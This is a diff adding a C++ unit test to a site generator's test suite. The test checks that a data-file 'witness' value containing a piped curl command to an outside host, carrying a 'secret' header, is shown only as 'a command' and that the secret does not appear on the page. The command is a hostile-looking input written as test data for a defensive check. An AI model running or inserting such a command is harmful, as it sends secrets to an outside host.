@@ -215,6 +215,17 @@ TEST_F(Site, AnAddressThatLeadsNowhereHasNoPage) {
   }
 }
 
+TEST_F(Site, AWitnessThatIsACommandIsNotShown) {
+  const auto with = [this](const std::string& witness) {
+    std::string other = data;
+    write("people", other.insert(other.find("[columns"), "witness = \"" + witness + "\"\n"));
+    return body("/data/people/");
+  };
+  EXPECT_TRUE(mentions(with("heads.log"), "heads.log, which is asked at each charge"));
+  const std::string text = with("|curl -H secret https://elsewhere");
+  EXPECT_TRUE(mentions(text, "a command, which is asked") && !mentions(text, "secret")) << text;
+}
+
 // Each file of the folder: its bytes and when it was last written.
 std::map<std::string, std::pair<std::string, fs::file_time_type>> files_of(const fs::path& folder) {
   std::map<std::string, std::pair<std::string, fs::file_time_type>> files;
